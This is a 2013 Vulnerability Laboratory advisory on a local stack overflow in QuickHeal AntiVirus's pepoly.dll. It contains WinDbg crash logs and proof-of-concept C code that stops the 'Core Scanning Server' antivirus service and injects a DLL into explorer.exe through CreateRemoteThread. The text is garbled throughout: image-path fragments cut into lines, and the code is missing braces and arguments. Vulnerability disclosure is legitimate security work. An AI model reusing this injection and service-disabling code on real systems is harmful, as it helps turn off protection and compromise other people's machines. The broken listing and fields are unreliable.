QuickHeal AntiVirus - Local Stack Overflow







Document Title:
QuickHeal AntiVirus - Stack Overflow Vulnerability

References (Source):



Release Date:

Vulnerability Laboratory ID (VL-ID):

Common Vulnerability Scoring System:Product & Service Introduction:
The simple interface and best virus protection technology of Quick Heal AntiVirus Pro ensures complete security without interrupting
or slowing down your system. Real time cloud security restricts access to malware infected websites. Spam filters stop phishing and
infected emails from reaching your inbox. Uninterrupted PC usage and viewing without prompts.

Quick Heal Anti-Virus is an all-round antivirus and security tool aimed at the intermediate home user. On first appearances, Quick Heal
Anti-Virus doesn’t do well. Installation is complicated,and the initial window that shows up is not, in fact, the main interface. Once
you find your way back to the control center, however, things become much clearer.

Visually, Quick Heal Anti-Virus is fairly successful. It has a nice, if not revolutionary, interface and all the sections are easy
to navigate. It also has a good selection of configuration options, where you can customize everything from what behavior the program
takes when it finds a virus to setting a password so nobody can change your configurations.

(Copy of the Homepage: http://www.quickheal.com/download-free-antivirus )

Abstract Advisory Information:
An independent laboratory researcher discovered a local stack buffer overflow vulnerability in the official QuickHeal AntiVirus (b2.0.0.1) Pro software.

Vulnerability Disclosure Timeline:
2013-12-16:    Public Disclosure (Vulnerability Laboratory)

Discovery Status:

Affected Product(s):
Quick Heal Technologies (P) LtdProduct: QuickHeal AntiVirus - Software (build -

Exploitation Technique:

SeverityLevel:

Technical Details & Description:
A local stack buffer overflow vulnerability has been discovered in the official QuickHeal AntiVirus (b2.0.0.1) Pro software.
The vulnerability allows local low privileged user accounts to compromise the system by a classic stack overflow issue.

QuickHeal Antivirus suffers from improper handling of buffers in it`s `pepoly.dll` module on certain conditions which leads
to a stack overflow. Upon disabling `Core scanning server` service, the vulnerable point could be triggered & crash the system.
Just run the PoC & once you see properties dialog, change your tab from `General` to `QuickHeal`. This will cause the QuickHeal
to scan your file & reports back to you the file status (whether it`s infected or clean). It`s notable that, in normal conditions
I was unable to trigger the vulnerability, & this is what`s the reason why I inject a dll into `explorer.exe` to trigger the bug
in right manner.The vulnerability is located in the generated PE file `*.text` value. Local attackers are able to overflow the process by a
manipulated import of a malicious PE file. The issue is a classic (uni-code) stack buffer overflow. Local attackers can overwrite
the registers to compromise the system or crash the quickheal software system process. The security risk of the local stack buffer
overflow vulnerability is estimated as medium(+) with a cvss (common vulnerability scoring system) count of 5.6(+)|(-)5.7.

The vulnerability can be exploited by local attackers with low privileged system user account and without user interaction.
Successful exploitation of the local stack buffer overflow software vulnerability results in process- and system compromise.

Proof of Concept (PoC):
The local stack buffer overflow vulnerability can be exploited by local attackers with low privileged system user account and
without user interaction. For security demonstration or to reproduce the vulnerability follow the provided information and steps below.

--- PoC Debug Logs ---
eax=000015bc ebx=03f48a0c ecx=03f12a34 edx=03f47a68 esi=089c84e8 edi=00000000
eip=05bab107 esp=03f47a2c ebp=000822d8 iopl=0nv up ei pl nz na po nc
cs=001b  ss=0023  ds=0023  es=0023  fs=003b  gs=0000             efl=00000202
*** WARNING: Unable to verify checksum for C:\PROGRA~1\QUICKH~1\QUICKH~1\pepoly.dll
*** ERROR: Symbol file could not be found.  Defaulted to export symbols for C:\PROGRA~1\QUICKH~1\QUICKH~1\pepoly.dll -
Missing image name, possible paged-out or corrupt data.
Missing image name, possible paged-out or corrupt data.
05bab107 8501            test    dword ptr [ecx],eax  ds:0023:03f12a34=00000000
0:019> kb
ChildEBP RetAddr  Args to Child
WARNING: Stack unwind information not available. Following frames may be wrong.
03f47a2c 05b73afa 059342ac 00000000 000822d8 pepoly!GetRealTypeByContents+0x297147
03f47ab0 41414141 41414141 41414141 41414141 pepoly!GetRealTypeByContents+0x25fb3a
03f47ab4 41414141 41414141 41414141 41414141 <Unloaded_Res.dll>+0x41414110
03f47ab8 41414141 41414141 41414141 41414141 <Unloaded_Res.dll>+0x41414110
03f47abc 41414141 41414141 41414141 41414141 <Unloaded_Res.dll>+0x41414110
03f47ac0 41414141 41414141 41414141 41414141 <Unloaded_Res.dll>+0x41414110
03f47ac4 41414141 41414141 41414141 41414141 <Unloaded_Res.dll>+0x41414110
03f47ac8 41414141 41414141 41414141 41414141 <Unloaded_Res.dll>+0x41414110
03f47acc 41414141 41414141 41414141 41414141 <Unloaded_Res.dll>+0x41414110
03f47ad0 41414141 41414141 41414141 30280000 <Unloaded_Res.dll>+0x4141411003f47ad4 41414141 41414141 30280000 41414141 <Unloaded_Res.dll>+0x41414110
03f47ad8 41414141 30280000 41414141 41414141 <Unloaded_Res.dll>+0x41414110
03f47adc 30280000 41414141 41414141 41414141 <Unloaded_Res.dll>+0x41414110
03f47ae0 41414141 41414141 41414141 41414141 <Unloaded_Res.dll>+0x3027ffcf
03f47ae4 41414141 41414141 41414141 41414141 <Unloaded_Res.dll>+0x41414110
03f47ae8 41414141 41414141 41414141 41414141 <Unloaded_Res.dll>+0x41414110
03f47aec 41414141 41414141 41414141 41414141 <Unloaded_Res.dll>+0x41414110
03f47af0 41414141 41414141 41414141 41414141 <Unloaded_Res.dll>+0x41414110
03f47af4 41414141 41414141 41414141 41414141 <Unloaded_Res.dll>+0x41414110
03f47af8 41414141 41414141 41414141 41414141 <Unloaded_Res.dll>+0x41414110
--- PoC Debug Logs ---

--- *.c

Title           :  QuickHeal Antivirus Pro(Pepoly.dll) Stack Overflow Vulnerability
Version         : (2014) - ( latest & other versions might also be affected )
Author          :  Arash Allebrahim
Contact         :  Genius_s3c_firewall($$$)yahoo($$$)com
Vendor          :  http://www.quickheal.com
Tested          :  Win 7 sp 1 x86 Ultimate & Win XP SP3 ENG
Note            : vuln.exe should be at c:\vuln.exe => vuln.exe is just a Corrupted PE File aims at crashing & nothing more


#include <windows.h>
#include <tlhelp32.h>
#include <shlwapi.h>
#include <conio.h>
#include <stdio.h>
#include <tchar.h>
#include <aclapi.h>#define WIN32_LEAN_AND_MEAN

#pragma comment(lib, "advapi32.lib")

typedef struct _SERVICE_STATUS_PROCESS {
  DWORD dwServiceType;
  DWORD dwCurrentState;
  DWORD dwControlsAccepted;
  DWORD dwWin32ExitCode;
  DWORD dwServiceSpecificExitCode;
  DWORD dwCheckPoint;
  DWORD dwWaitHint;
  DWORD dwProcessId;
  DWORD dwServiceFlags;

VOID __stdcall DoStopSvc();SC_HANDLE schSCManager;
SC_HANDLE schService;

int main(int argc, char * argv[])
   char buf[MAX_PATH] = {0};
   DWORD pID = GetTargetThreadIDFromProcName("explorer.exe");
   printf("\n\nQuickHeal Antivirus ( pepoly.dll stack overflow vulnerability Proof of Concept Code");
   printf("\n\nAuthor : Arash Allebrahim");

   GetFullPathName("ShellExecuteExProperties.dll", MAX_PATH, buf, NULL);if(!Inject(pID, buf))
        printf("\n\nDLL Not Loaded!");
        printf("\n\nDLL Loaded!");
        printf("\n\n( + ) It's ok! just click on QuickHeal tab!");
   return 0;

VOID __stdcall DoStopSvc()
    DWORD dwStartTime = GetTickCount();
    DWORD dwBytesNeeded;
    DWORD dwTimeout = 30000;
    DWORD dwWaitTime;
    schSCManager = OpenSCManager(
    if (NULL == schSCManager)
        printf("OpenSCManager failed (%d)\n", GetLastError());schService = OpenService(
        "Core Scanning Server",
        SERVICE_STOP |
    if(schService == NULL)
        printf("OpenService failed (%d)\n", GetLastError());

    if ( !ControlService(
            (LPSERVICE_STATUS) &ssp ) )
        printf( "ControlService failed (%d)\n", GetLastError() );


BOOL Inject(DWORD pID, const char * DLL_NAME)
   HANDLE Proc;
   HMODULE hLib;
   char buf[50] = {0};
   LPVOID RemoteString, LoadLibAddy;
      return FALSE;
   Proc = OpenProcess(PROCESS_ALL_ACCESS, FALSE, pID);
      sprintf(buf, "OpenProcess() failed: %d", GetLastError());
      return FALSE;LoadLibAddy = (LPVOID)GetProcAddress(GetModuleHandle("kernel32.dll"), "LoadLibraryA");
   RemoteString = (LPVOID)VirtualAllocEx(Proc, NULL, strlen(DLL_NAME), MEM_RESERVE | MEM_COMMIT, PAGE_READWRITE);
   WriteProcessMemory(Proc, (LPVOID)RemoteString, DLL_NAME, strlen(DLL_NAME), NULL);
   CreateRemoteThread(Proc, NULL, NULL, (LPTHREAD_START_ROUTINE)LoadLibAddy, (LPVOID)RemoteString, NULL, NULL);
   return TRUE;

DWORD GetTargetThreadIDFromProcName(const char * ProcName)
   HANDLE thSnapShot;
   BOOL retval, ProcFound = FALSE;
   thSnapShot = CreateToolhelp32Snapshot(TH32CS_SNAPPROCESS, 0);
   if(thSnapShot == INVALID_HANDLE_VALUE)
      printf("Error: Unable to create toolhelp snapshot!");
      return FALSE;
   pe.dwSize = sizeof(PROCESSENTRY32);
   retval = Process32First(thSnapShot, &pe);
      if(StrStrI(pe.szExeFile, ProcName))
         return pe.th32ProcessID;
      retval = Process32Next(thSnapShot, &pe);
   return 0;

PoC:  PE File

To manipulate a PE test file you need to generate own.
In the second step you replace after the PE[NULL] flag the context of the *.text (*) value with an own large uni-code string.

Standard files: StdAfx.h, StdAfx.cpp
These files are used to build a precompiled header (PCH) file
named ShellExecuteExProperties.pch and a precompiled types file named StdAfx.obj.Other notes:
AppWizard uses "TODO:" to indicate parts of the source code you
should add to or customize.



Solution - Fix & Patch:
The vulnerability can be patched by a secure filter and size restriction of the PE file name text flag.

Security Risk:
The security risk of the local stack buffer overflow vulnerability is estimated as medium(+).

Credits & Authors:
Arash Allebrahim - (Genius_s3c_firewall($$$)yahoo($$$)com)

Disclaimer & Information:
The information provided in this advisory is provided as it is without any warranty. Vulnerability Lab disclaims all warranties,
either expressed or implied, including the warranties of merchantability and capability for a particular purpose. Vulnerability-
Lab or its suppliers are not liable in any case of damage, including direct, indirect, incidental, consequential loss of business
profits or special damages, even if Vulnerability-Lab or its suppliers have been advised of the possibility of such damages. Some
states do not allow the exclusion or limitation of liability for consequential or incidental damages so the foregoing limitation
may not apply. We do not approve or encourage anybody to break any vendor licenses, policies, deface websites, hack into databases
or trade with fraud/stolen material.

Domains:    www.vulnerability-lab.com       - www.vuln-lab.com                 - www.evolution-sec.com
Contact:    admin@vulnerability-lab.com     - research@vulnerability-lab.com           - admin@evolution-sec.com
Section:    www.vulnerability-lab.com/dev   - forum.vulnerability-db.com               - magazine.vulnerability-db.com
Social:     twitter.com/#!/vuln_lab         - facebook.com/VulnerabilityLab            - youtube.com/user/vulnerability0lab
Feeds:      vulnerability-lab.com/rss/rss.php   - vulnerability-lab.com/rss/rss_upcoming.php   - vulnerability-lab.com/rss/rss_news.phpAny modified copy or reproduction, including partially usages, of this file requires authorization from Vulnerability Laboratory.
Permission to electronically redistribute this alert in its unmodified form is granted. All other rights, including the use of other
media, are reserved by Vulnerability-Lab Research Team or its suppliers. All pictures, texts, advisories, source code, videos and
other information on this website is trademark of vulnerability-lab team & the specific authors or managers. To record, list (feed),
modify, use or edit our material contact (admin@vulnerability-lab.com or research@vulnerability-lab.com) to get a permission.

                Copyright © 2013 | VulnerabilityLaboratory [Evolution Security]

DOMAIN: www.vulnerability-lab.comCONTACT: research@vulnerability-lab.com